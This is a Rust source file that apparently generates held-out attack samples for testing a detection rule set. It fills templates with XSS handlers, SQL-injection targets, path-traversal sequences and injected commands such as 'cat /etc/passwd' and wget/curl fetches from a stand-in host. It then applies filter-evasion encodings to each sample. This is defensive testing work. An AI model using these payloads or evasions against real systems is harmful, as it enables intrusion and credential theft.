//! Attacks of other shapes and disguises than those the rules were written against: as tools of the trade put them
//! together. They are measured, never tuned for one by one.

use super::{benign::Chance, corpus::Attack};

const FORMS: &str = include_str!("../../corpus/fresh.txt");

/// How often each form is filled, in each disguise.
const TIMES: usize = 4;

const WORDS: [(&str, &[&str]); 7] = [
    ("‹w›", &["abc", "qwerty", "Anna", "x7", "foo_bar", "zzz"]),
    ("‹hex›", &["716a7a7171", "7e", "3a3a", "71626b7871"]),
    ("‹col›", &["passwd", "email", "card_no", "name", "secret", "login"]),
    ("‹tab›", &["members", "app.accounts", "information_schema.tables", "wp_users", "staff", "customers"]),
    (
        "‹el›",
        &[
            "video", "audio", "svg", "img", "body", "input", "marquee", "button", "textarea", "select",
            "div", "p",
        ],
    ),
    (
        "‹ev›",
        &[
            "load",
            "error",
            "click",
            "focus",
            "mouseover",
            "toggle",
            "animationend",
            "wheel",
            "pointerenter",
            "begin",
            "scrollend",
            "copy",
        ],
    ),
    (
        "‹call›",
        &[
            "alert(1)",
            "alert`1`",
            "confirm(document.domain)",
            "prompt(1)",
            "top['al'+'ert'](1)",
            "eval(atob('YWxlcnQoMSk='))",
            "print()",
            "fetch('//e.example.org')",
            "window.alert(1)",
            "location='//e.example.org'",
        ],
    ),
];

const MORE: [(&str, &[&str]); 2] = [
    ("‹up›", &["../", "..\\", "..//", "./../", ".../../"]),
    (
        "‹cmd›",
        &[
            "id",
            "cat /etc/passwd",
            "whoami",
            "sleep 5",
            "ping -c 3 127.0.0.1",
            "curl http://e.example.org/x",
            "wget http://e.example.org/x.sh",
            "uname -a",
            "ls -la /",
            "nslookup e.example.org",
        ],
    ),
];

/// One way in which tools rewrite a payload.
type Rewrite = (&'static str, fn(&str) -> String);

const REWRITES: [Rewrite; 12] = [
    ("plain", str::to_owned),
    ("large hex escapes", |text| {
        escaped(text, |c| !c.is_ascii_alphanumeric(), |c| format!("%{:02X}", u32::from(c)))
    }),
    ("every letter %u00XX", |text| escaped(text, |_| true, |c| format!("%u{:04X}", u32::from(c)))),
    ("entities with zeros", |text| {
        escaped(text, |c| c.is_ascii_punctuation(), |c| format!("&#{:07};", u32::from(c)))
    }),
    ("\\xXX", |text| escaped(text, |c| c.is_ascii_punctuation(), |c| format!("\\x{:02x}", u32::from(c)))),
    ("\\u{XX}", |text| escaped(text, |c| c.is_ascii_punctuation(), |c| format!("\\u{{{:x}}}", u32::from(c)))),
    ("entities, escaped", |text| {
        let entities = escaped(text, |c| c.is_ascii_punctuation(), |c| format!("&#x{:x};", u32::from(c)));
        escaped(&entities, |c| c.is_ascii_punctuation(), |c| format!("%{:02x}", u32::from(c)))
    }),
    ("wide quotes", |text| text.replace('\'', "\u{ff07}").replace('"', "\u{ff02}")),
    ("every third letter large", |text| {
        text.chars().enumerate().map(|(at, c)| if at % 3 == 0 { c.to_ascii_uppercase() } else { c }).collect()
    }),
    ("lines for blanks", |text| text.replace(' ', "%0a")),
    ("comments with words for blanks", |text| text.replace(' ', "/*f0o*/")),
    ("no-break blanks", |text| text.replace(' ', "%a0")),
];

/// Every attack of a family.
pub(crate) fn attacks(family: &str) -> Vec<Attack> {
    let mut chance = Chance::new(90_441);
    let forms = FORMS.lines().filter_map(|line| line.split_once('\t')).filter(|(name, _)| *name == family);
    let mut attacks = Vec::new();
    for (_, form) in forms {
        for (disguise, write) in REWRITES {
            let blanks_matter = disguise.contains("blanks") && !(family == "sqli" && form.contains(' '));
            if blanks_matter {
                continue;
            }
            attacks.extend((0..TIMES).map(|_| {
                let text = write(&filled(form, &mut chance));
                Attack { text, disguise, held_out: true }
            }));
        }
    }
    attacks
}

fn filled(form: &str, chance: &mut Chance) -> String {
    let mut text = form.replace("\\n", "\n");
    for (name, words) in WORDS.iter().chain(&MORE) {
        while text.contains(name) {
            text = text.replacen(name, chance.one_of(words), 1);
        }
    }
    while text.contains("‹n›") {
        text = text.replacen("‹n›", &(chance.number(9000) + 1).to_string(), 1);
    }
    text
}

fn escaped(text: &str, chosen: fn(char) -> bool, write: fn(char) -> String) -> String {
    text.chars().map(|c| if chosen(c) { write(c) } else { c.to_string() }).collect()
}
